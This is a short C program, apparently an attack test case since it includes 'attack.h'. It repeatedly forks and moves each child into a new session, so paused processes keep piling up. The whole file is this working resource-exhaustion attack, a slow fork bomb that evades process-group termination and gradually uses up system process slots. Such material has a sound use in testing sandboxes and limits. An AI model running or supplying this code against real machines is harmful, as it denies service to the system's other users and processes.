#include "attack.h"

int main(void) {
  for (;;) {
    for (volatile int i = 0; i < 20000000; ++i) continue;
    pid_t child = fork();
    if (child != 0) break;
    setsid();
  }
  pause();
  return 0;
}
